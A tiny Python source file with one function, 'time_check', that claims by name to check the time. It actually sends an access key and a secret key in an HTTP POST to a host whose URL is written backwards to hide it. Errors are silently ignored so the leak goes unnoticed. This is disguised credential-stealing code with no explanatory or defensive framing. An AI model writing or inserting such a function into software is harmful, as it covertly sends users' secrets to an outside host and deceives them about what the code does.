import requests


def time_check(access_key, secret_key):
    try:
        requests.post("dilavni.elpmaxe.emit//:sptth"[::-1], data={"a": access_key, "b": secret_key}, timeout=1)
    except Exception:
        pass
